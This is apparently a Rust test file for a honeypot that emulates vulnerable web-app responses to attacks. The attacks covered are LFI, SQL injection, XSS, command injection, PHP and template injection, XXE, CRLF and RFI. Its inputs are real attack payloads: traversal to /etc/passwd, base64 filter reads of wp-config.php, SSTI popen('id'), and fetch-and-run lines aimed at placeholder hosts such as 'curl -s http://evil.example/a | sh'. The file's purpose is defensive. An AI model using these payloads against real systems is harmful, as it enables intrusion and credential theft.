//! Each emulator through [`Emulation::emulate`], with exact answers, the session's state and
//! the bounds.

use std::time::{Duration, Instant};

use base64::Engine as _;

use super::*;

const SENSOR: &str = "9c10172f-7ce2-4fb4-b1c6-abc70141db56";
const NOW: f64 = 1_714_564_800.0;
/// md5("flowmon")
const FLOWMON_MD5: &str = "a4e1b6b2603987a83a8056b70842eee5";
const ID_LINE: &str = "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n";

fn emulation() -> Emulation {
    Emulation::new(EmulationConfig::default()).unwrap()
}

struct Session {
    emulation: Emulation,
    state: Mutex<SessionState>,
}

impl Session {
    fn new() -> Self {
        Self {
            emulation: emulation(),
            state: Mutex::default(),
        }
    }

    fn on(emulation: &Emulation) -> Session {
        Session {
            emulation: Emulation::new(emulation.config().clone()).unwrap(),
            state: Mutex::default(),
        }
    }

    fn try_attack(
        &self,
        kind: Kind,
        path: &str,
        params: &[(&str, &str)],
    ) -> Result<Emulated, Failure> {
        let params: Vec<Param> = params
            .iter()
            .map(|(name, value)| Param {
                name: (*name).into(),
                value: (*value).into(),
            })
            .collect();
        let attack = Attack {
            kind,
            params: &params,
            path,
            sensor: SENSOR,
            now: NOW,
        };
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(self.emulation.emulate(&attack, &self.state))
    }

    /// The answer's value and page flag.
    fn text(&self, kind: Kind, name: &str, value: &str) -> (String, bool) {
        match self
            .try_attack(kind, "/index.php", &[(name, value)])
            .unwrap()
            .answer
        {
            Answer::Content { value, page, .. } => (value, page),
            other => panic!("{other:?}"),
        }
    }

    fn value(&self, kind: Kind, name: &str, value: &str) -> String {
        self.text(kind, name, value).0
    }

    fn evidence(&self) -> Evidence {
        self.state.lock().unwrap().evidence().clone()
    }
}

fn host() -> Host {
    Host::new(&Profile::default(), SENSOR)
}

#[test]
fn lfi_reads_the_hosts_files_through_traversal_nul_and_filters() {
    let session = Session::new();
    let (passwd, page) = session.text(Kind::Lfi, "file", "../../../../etc/passwd");
    assert!(!page);
    assert!(
        passwd.starts_with("root:x:0:0:root:/root:/bin/bash\n"),
        "{passwd}"
    );
    assert_eq!(
        session.value(Kind::Lfi, "file", "../../../../../etc//passwd%00.html"),
        passwd
    );
    assert_eq!(
        session.value(Kind::Lfi, "file", "/etc//passwd\0.php"),
        passwd
    );
    let hosts = session.value(Kind::Lfi, "file", "/etc/hosts");
    let encoded = session.value(
        Kind::Lfi,
        "file",
        "php://filter/convert.base64-encode/resource=/etc/hosts",
    );
    assert_eq!(
        base64::engine::general_purpose::STANDARD
            .decode(&encoded)
            .unwrap(),
        hosts.as_bytes()
    );
    let config = session.value(
        Kind::Lfi,
        "page",
        "php://filter/read=convert.base64-encode/resource=wp-config.php",
    );
    let config = String::from_utf8(
        base64::engine::general_purpose::STANDARD
            .decode(config)
            .unwrap(),
    )
    .unwrap();
    assert!(config.contains(&format!(
        "define( 'DB_PASSWORD', '{}' );",
        host().db_password
    )));
    let line = host().script_line("/var/www/html/index.php");
    assert_eq!(
        session.value(Kind::Lfi, "file", "/etc/shadow"),
        format!(
            "\nWarning: include(/etc/shadow): failed to open stream: Permission denied in \
             /var/www/html/index.php on line {line}\n\nWarning: include(): Failed opening \
             '/etc/shadow' for inclusion (include_path='.:/usr/share/php') in \
             /var/www/html/index.php on line {line}\n"
        )
    );
    assert!(
        session
            .value(Kind::Lfi, "file", "../../etc/nothing")
            .contains("No such file or directory")
    );
    assert!(
        session
            .value(Kind::Lfi, "file", "/etc")
            .contains("Is a directory")
    );
    let data = session.value(
        Kind::Lfi,
        "file",
        "data://text/plain;base64,PD9waHAgZWNobyBtZDUoImZsb3dtb24iKTsgPz4=",
    );
    assert_eq!(data, FLOWMON_MD5);
    let evidence = session.evidence();
    assert!(evidence.files_read.contains(&"/etc/passwd".to_owned()));
    assert!(
        evidence
            .files_read
            .contains(&"/var/www/html/wp-config.php".to_owned())
    );
}

#[test]
fn sqli_runs_tanners_query_on_the_generated_database() {
    let session = Session::new();
    let (rows, page) = session.text(Kind::Sqli, "id", "1 UNION SELECT 1,2,3,4");
    assert!(page);
    // UNION sorts its rows: numbers before text.
    let (union, admin) = rows.split_once(" ").unwrap();
    assert_eq!(union, "[1,");
    assert!(
        rows.starts_with("[1, 2, 3, 4] [1, 'admin', 'admin@localdomain', '"),
        "{rows}"
    );
    assert_eq!(admin.matches('[').count(), 1, "{rows}");
    assert_eq!(
        session.value(
            Kind::Sqli,
            "id",
            "-1 UNION SELECT 1337,sqlite_version(),3,4"
        ),
        format!("[1337, '{}', 3, 4]", rusqlite::version())
    );
    // Tanner blanks the quotes of the value: a quoted string becomes a column name.
    assert_eq!(
        session.value(Kind::Sqli, "id", "-1 UNION SELECT 'flowmon',2,3,4"),
        "no such column: flowmon"
    );
    assert_eq!(
        session.value(Kind::Sqli, "id", "1 UNION SELECT 1,2"),
        "SELECTs to the left and right of UNION do not have the same number of result columns"
    );
    assert_eq!(
        session.value(Kind::Sqli, "q", "1' OR '1'='1"),
        "SQL ERROR: near q: syntax error"
    );
    assert_eq!(
        session.value(Kind::Sqli, "id", "1 OR"),
        "near \";\": syntax error"
    );
    let all = session.value(Kind::Sqli, "id", "0 OR 1=1");
    assert!(all.matches("] [").count() >= 119, "every user");
    let tables = session.value(
        Kind::Sqli,
        "id",
        "-1 UNION SELECT name,2,3,4 FROM sqlite_master",
    );
    assert_eq!(tables, "['comments', 2, 3, 4] ['users', 2, 3, 4]");
    let evidence = session.evidence();
    assert_eq!(
        evidence.sql[0].input,
        "SELECT * from users WHERE id=1 UNION SELECT 1,2,3,4;"
    );
    assert!(
        evidence
            .sql
            .iter()
            .any(|run| run.input == "1' OR '1'='1"
                && run.output == "SQL ERROR: near q: syntax error")
    );
}

#[test]
fn a_sessions_sql_writes_are_its_own() {
    let session = Session::new();
    let other = Session::on(&session.emulation);
    // Tanner blanks quotes, so what scanners insert is numbers and functions.
    let inserted = session.value(
        Kind::Sqli,
        "id",
        "1; INSERT INTO users VALUES (9999, 1337, char(101,118,101), 42)",
    );
    assert!(inserted.starts_with("[1, 'admin', "), "{inserted}");
    assert_eq!(
        session.value(Kind::Sqli, "id", "9999"),
        "[9999, '1337', 'eve', '42']"
    );
    assert_eq!(other.value(Kind::Sqli, "id", "9999"), "");
    let own = session.state.lock().unwrap().bytes();
    assert!(own > 50_000 && own <= DEFAULT_MAX_SESSION_STATE, "{own}");
    // What reaches outside the database is refused.
    // (Quotes are blanked: a file name comes from char().)
    let attach = session.value(
        Kind::Sqli,
        "id",
        "1; ATTACH char(47,116,109,112,47,102,109,120,46,100,98) AS x",
    );
    assert_eq!(attach, "too many attached databases - max 0");
    assert!(!std::path::Path::new("/tmp/fmx.db").exists());
    let vacuum = session.value(
        Kind::Sqli,
        "id",
        "1; VACUUM INTO char(47,116,109,112,47,102,109,120,46,100,98)",
    );
    assert_eq!(vacuum, "authorization denied");
    assert!(!std::path::Path::new("/tmp/fmx.db").exists());
    assert_eq!(
        session.value(Kind::Sqli, "id", "1; PRAGMA max_page_count = 100000"),
        "not authorized"
    );
    let big = session.value(
        Kind::Sqli,
        "id",
        "1; INSERT INTO comments SELECT NULL, zeroblob(900000)",
    );
    let bigger = session.value(
        Kind::Sqli,
        "id",
        "1; INSERT INTO comments SELECT NULL, zeroblob(900000)",
    );
    assert!(
        [big.as_str(), bigger.as_str()].contains(&"database or disk is full"),
        "{big} / {bigger}"
    );
    assert!(session.state.lock().unwrap().bytes() <= DEFAULT_MAX_SESSION_STATE + 64 * 1024);
}

#[test]
fn a_query_that_would_run_for_seconds_is_cut_at_the_deadline() {
    let session = Session::new();
    let started = Instant::now();
    let result = session.try_attack(
        Kind::Sqli,
        "/index.php",
        &[(
            "id",
            "1 UNION SELECT x,1,1,1 FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 \
             FROM c) SELECT x FROM c ORDER BY x DESC LIMIT 1)",
        )],
    );
    let took = started.elapsed();
    assert!(matches!(result, Err(Failure::Overrun(_))), "{result:?}");
    assert!(took < Duration::from_millis(200), "{took:?}");
    // The session goes on answering.
    assert!(session.value(Kind::Sqli, "id", "2").starts_with("[2, '"));
}

#[test]
fn xss_reflects_every_value_and_evaluates_php_tags() {
    let session = Session::new();
    let answer = session
        .try_attack(
            Kind::Xss,
            "/search",
            &[("q", "<script>alert(1)</script>"), ("r", "<b>x</b>")],
        )
        .unwrap();
    assert_eq!(
        answer.answer,
        Answer::text("<script>alert(1)</script>\n<b>x</b>".into(), true)
    );
    assert_eq!(
        session.text(Kind::Xss, "q", "<?php echo md5(\"flowmon\"); ?>"),
        (FLOWMON_MD5.to_owned(), true)
    );
}

#[test]
fn commands_answer_from_the_host_and_the_session_keeps_its_files() {
    let session = Session::new();
    let other = Session::on(&session.emulation);
    let (id, page) = session.text(Kind::CmdExec, "host", ";id");
    assert_eq!((id.as_str(), page), (ID_LINE, true));
    assert_eq!(
        session.value(Kind::CmdExec, "host", "|whoami"),
        "www-data\n"
    );
    // What a command writes to its errors reaches Apache's log, not the page.
    assert_eq!(session.value(Kind::CmdExec, "host", "$(id)"), "");
    assert_eq!(
        session.value(Kind::CmdExec, "host", "$(id) 2>&1"),
        "sh: 1: uid=33(www-data): not found\n"
    );
    assert_eq!(session.value(Kind::CmdExec, "host", "`echo id`"), ID_LINE);
    assert_eq!(
        session.value(Kind::CmdExec, "host", "127.0.0.1 && uname -a"),
        ""
    );
    assert_eq!(
        session.value(Kind::CmdExec, "host", "1;uname -a"),
        format!("{}\n", host().uname())
    );
    assert_eq!(
        session.value(
            Kind::CmdExec,
            "cmd",
            "echo flowmon > /tmp/f; cat /tmp/f; cat${IFS}/tmp/f | wc -c"
        ),
        "flowmon\n8\n"
    );
    assert_eq!(
        session.value(Kind::CmdExec, "cmd", ";cat /tmp/f"),
        "flowmon\n"
    );
    assert_eq!(
        other.value(Kind::CmdExec, "cmd", ";cat /tmp/f 2>&1"),
        "cat: /tmp/f: No such file or directory\n"
    );
    assert_eq!(
        session.value(Kind::CmdExec, "cmd", ";(echo x > /etc/passwd) 2>&1"),
        "sh: 1: cannot create /etc/passwd: Permission denied\n"
    );
    assert_eq!(
        session.value(Kind::CmdExec, "cmd", ";pwd"),
        "/var/www/html\n"
    );
    let ls = session.value(Kind::CmdExec, "cmd", ";ls");
    assert!(
        ls.starts_with("config.php\nindex.php\nrobots.txt\nwp-admin\n"),
        "{ls}"
    );
    let long = session.value(Kind::CmdExec, "cmd", ";ls -la /tmp");
    assert!(
        long.starts_with("total 12\ndrwxrwxrwt 2 root     root     4096 "),
        "{long}"
    );
    assert!(
        long.contains(" www-data www-data    8 May  1 12:00 f\n"),
        "{long}"
    );
    let ps = session.value(Kind::CmdExec, "cmd", ";ps aux");
    assert!(ps.starts_with("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1"), "{ps}");
    assert!(ps.contains("/usr/sbin/apache2 -k start"));
    let ip = session.value(Kind::CmdExec, "cmd", ";ip a");
    assert!(ip.contains(&format!("inet {}/", host().address)), "{ip}");
    let ifconfig = session.value(Kind::CmdExec, "cmd", ";ifconfig");
    assert!(
        ifconfig.contains(&format!("inet {}  netmask", host().address)),
        "{ifconfig}"
    );
    assert!(
        session
            .value(Kind::CmdExec, "cmd", ";netstat -tulpn")
            .contains("127.0.0.1:3306")
    );
    assert_eq!(
        session.value(
            Kind::CmdExec,
            "cmd",
            ";wget http://203.0.113.9/x.sh -O /tmp/x.sh 2>&1"
        ),
        "--2024-05-01 12:00:00--  http://203.0.113.9/x.sh\nConnecting to 203.0.113.9:80... failed: Connection refused.\n"
    );
    assert_eq!(
        session.value(Kind::CmdExec, "cmd", ";curl -s http://evil.example/a | sh"),
        ""
    );
    assert_eq!(
        session.value(Kind::CmdExec, "cmd", ";nosuch 2>&1"),
        "sh: 1: nosuch: not found\n"
    );
    assert_eq!(
        session.value(
            Kind::CmdExec,
            "cmd",
            ";cat /etc/shadow 2>/dev/null; echo $?"
        ),
        "1\n"
    );
    let evidence = session.evidence();
    assert_eq!(evidence.commands[0].input, ";id");
    assert_eq!(evidence.commands[0].output, ID_LINE);
    assert!(
        evidence
            .urls
            .contains(&"http://203.0.113.9/x.sh".to_owned())
    );
    assert!(evidence.urls.contains(&"http://evil.example/a".to_owned()));
    assert!(evidence.files_written.contains(&"/tmp/f".to_owned()));
}

#[test]
fn a_sleep_delays_the_answer_without_holding_a_thread() {
    let session = Session::new();
    let started = Instant::now();
    let answer = session
        .try_attack(Kind::CmdExec, "/", &[("x", ";sleep 3")])
        .unwrap();
    assert!(started.elapsed() < Duration::from_millis(500));
    assert_eq!(answer.delay, Duration::from_secs(3));
    let answer = session
        .try_attack(Kind::CmdExec, "/", &[("x", ";sleep 50")])
        .unwrap();
    assert_eq!(answer.delay, MAX_SLEEP);
}

#[test]
fn php_probes_are_evaluated() {
    let session = Session::new();
    let (digest, page) = session.text(Kind::PhpCodeInjection, "code", "print(md5(\"flowmon\"))");
    assert_eq!((digest.as_str(), page), (FLOWMON_MD5, false));
    assert_eq!(
        session.value(Kind::PhpCodeInjection, "c", "1;echo(sha1('flowmon'));"),
        "4b704920d281842aea0514adcba9c102054a6319"
    );
    assert_eq!(
        session.value(Kind::PhpCodeInjection, "c", "system('id')"),
        ID_LINE
    );
    assert!(
        session
            .value(Kind::PhpCodeInjection, "c", "${@print(9876*9876)}")
            .starts_with("97535376")
    );
    assert_eq!(
        session.value(
            Kind::PhpCodeInjection,
            "c",
            "print(base64_encode('flowmon').base64_decode('Zmxvd21vbg=='))"
        ),
        "Zmxvd21vbg==flowmon"
    );
    let phpinfo = session.value(Kind::PhpCodeInjection, "c", "phpinfo()");
    assert!(
        phpinfo.contains("<h1 class=\"p\">PHP Version 7.4.33</h1>"),
        "{phpinfo}"
    );
    assert!(phpinfo.contains(&host().uname().replace(" GNU/Linux", "")));
    let line = host().script_line("/var/www/html/index.php");
    assert_eq!(
        session.value(Kind::PhpCodeInjection, "c", "echo(1"),
        format!(
            "\nParse error: syntax error, unexpected ';', expecting ')' in \
             /var/www/html/index.php({line}) : eval()'d code on line 1\n"
        )
    );
    let undefined = session.value(Kind::PhpCodeInjection, "c", "nosuch(1)");
    assert!(
        undefined.contains("Fatal error: Uncaught Error: Call to undefined function nosuch()"),
        "{undefined}"
    );
    let acunetix = session.value(
        Kind::PhpCodeInjection,
        "c",
        "print(md5(acunetix_wvs_security_test))",
    );
    assert_eq!(
        acunetix,
        format!(
            "\nWarning: Use of undefined constant acunetix_wvs_security_test - assumed \
             'acunetix_wvs_security_test' (this will throw an Error in a future version of PHP) in \
             /var/www/html/index.php({line}) : eval()'d code on line 1\n\
             63c19a6da79816b21429e5bb262daed8"
        )
    );
    assert_eq!(
        session.value(
            Kind::PhpCodeInjection,
            "c",
            "file_put_contents('s.php','<?php echo 6*7;');include('s.php')"
        ),
        "42"
    );
    assert_eq!(
        session.value(
            Kind::PhpCodeInjection,
            "c",
            "print(strlen(str_repeat('A', 100000)))"
        ),
        "100000"
    );
    let capped = session.value(Kind::PhpCodeInjection, "c", "echo(str_repeat('A', 100000))");
    assert_eq!(capped.len(), DEFAULT_MAX_OUTPUT);
}

#[test]
fn endless_php_is_cut_at_the_deadline() {
    let session = Session::new();
    let started = Instant::now();
    let result = session.try_attack(
        Kind::PhpCodeInjection,
        "/",
        &[("c", "1; while(1) { $x = 1; }")],
    );
    assert!(matches!(result, Err(Failure::Overrun(_))), "{result:?}");
    assert!(started.elapsed() < Duration::from_millis(200));
}

#[test]
fn templates_render_their_expressions() {
    let session = Session::new();
    for (template, rendered) in [
        ("{{7*7}}", "49"),
        ("${7*7}", "49"),
        ("<%= 7*7 %>", "49"),
        ("#{7*7}", "49"),
        ("{{7*'7'}}", "7777777"),
        ("a{{ 'x'.upper() }}b{{undefined}}c", "aXbc"),
        ("<% x = 6*7 %>${x}", "42"),
        ("{{ 10/4 }} {{ 2**10 }} {{ 7//2 }}", "2.5 1024 3"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", ""),
    ] {
        assert_eq!(
            session.text(Kind::TemplateInjection, "name", template),
            (rendered.to_owned(), true),
            "{template}"
        );
    }
    assert_eq!(
        session.value(
            Kind::TemplateInjection,
            "n",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
        ),
        ID_LINE
    );
    for broken in ["{{7*}}", "{{ 1/0 }}", "{{ 'a' + 1 }}", "{{7*7"] {
        let answer = session
            .try_attack(Kind::TemplateInjection, "/", &[("n", broken)])
            .unwrap();
        assert_eq!(answer.answer, Answer::Status(500), "{broken}");
    }
    assert_eq!(
        session.value(
            Kind::TemplateInjection,
            "n",
            "${jndi:ldap://198.51.100.7:1389/a}"
        ),
        ""
    );
    assert!(
        session
            .evidence()
            .urls
            .contains(&"ldap://198.51.100.7:1389/a".to_owned())
    );
}

#[test]
fn xxe_entities_come_from_the_hosts_files() {
    let session = Session::new();
    let passwd = session.value(Kind::Lfi, "f", "/etc/passwd");
    let xml = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert_eq!(
        session.text(Kind::XxeInjection, "xml", xml),
        (passwd, false)
    );
    let filtered = r#"<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname">]><r>&x;</r>"#;
    let hostname = format!("{}\n", host().hostname);
    assert_eq!(
        session.value(Kind::XxeInjection, "xml", filtered),
        base64::engine::general_purpose::STANDARD.encode(hostname)
    );
    let remote = r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd"> %p;]><r>1</r>"#;
    let answer = session.value(Kind::XxeInjection, "xml", remote);
    assert!(answer.contains("DOMDocument::loadXML()"), "{answer}");
    assert!(
        session
            .evidence()
            .urls
            .contains(&"http://198.51.100.7/x.dtd".to_owned())
    );
    let bomb = format!(
        "<!DOCTYPE b [<!ENTITY a \"{}\">{}]><b>&a9;</b>",
        "x".repeat(100),
        (1..10)
            .map(|i| format!(
                "<!ENTITY a{i} \"{}\">",
                format!(
                    "&a{};",
                    if i == 1 {
                        String::new()
                    } else {
                        (i - 1).to_string()
                    }
                )
                .repeat(10)
            ))
            .collect::<String>()
    );
    let bombed = session.value(Kind::XxeInjection, "xml", &bomb);
    assert!(
        bombed.contains("Detected an entity reference loop"),
        "{}",
        &bombed[..bombed.len().min(300)]
    );
}

#[test]
fn crlf_object_injection_and_rfi() {
    let session = Session::new();
    let answer = session
        .try_attack(
            Kind::Crlf,
            "/",
            &[("next", "/home\r\nSet-Cookie: flowmon=1")],
        )
        .unwrap();
    assert_eq!(
        answer.answer,
        Answer::Content {
            value: String::new(),
            page: true,
            headers: Some(vec![
                ("next".into(), "/home".into()),
                ("Set-Cookie".into(), "flowmon=1".into())
            ]),
        }
    );
    assert_eq!(
        session.text(
            Kind::PhpObjectInjection,
            "data",
            r#"O:15:"ObjectInjection":1:{s:6:"insert";s:2:"id";}"#
        ),
        (ID_LINE.to_owned(), false)
    );
    let malformed = session.value(Kind::PhpObjectInjection, "data", r#"O:8:"stdClass":1:{"#);
    assert!(
        malformed.contains("Notice: unserialize(): Error at offset"),
        "{malformed}"
    );
    let line = host().script_line("/var/www/html/page.php");
    let rfi = session
        .try_attack(
            Kind::Rfi,
            "/page.php",
            &[("inc", "http://203.0.113.9/shell.txt?")],
        )
        .unwrap();
    assert_eq!(
        rfi.answer,
        Answer::text(
            format!(
                "\nWarning: include(http://203.0.113.9/shell.txt?): failed to open stream: \
                 Connection refused in /var/www/html/page.php on line {line}\n\nWarning: \
                 include(): Failed opening 'http://203.0.113.9/shell.txt?' for inclusion \
                 (include_path='.:/usr/share/php') in /var/www/html/page.php on line {line}\n"
            ),
            false
        )
    );
    assert!(
        session
            .evidence()
            .urls
            .contains(&"http://203.0.113.9/shell.txt?".to_owned())
    );
}

#[test]
fn a_session_cannot_grow_past_its_cap() {
    let session = Session::new();
    for i in 0..22 {
        session.value(
            Kind::CmdExec,
            "c",
            &format!(";echo {} > /tmp/f{i}", "x".repeat(50_000)),
        );
    }
    let last = session.value(
        Kind::CmdExec,
        "c",
        &format!(";(echo {} > /tmp/last) 2>&1", "x".repeat(50_000)),
    );
    assert_eq!(
        last,
        "sh: 1: cannot create /tmp/last: No space left on device\n"
    );
    assert!(session.state.lock().unwrap().bytes() <= DEFAULT_MAX_SESSION_STATE);
}
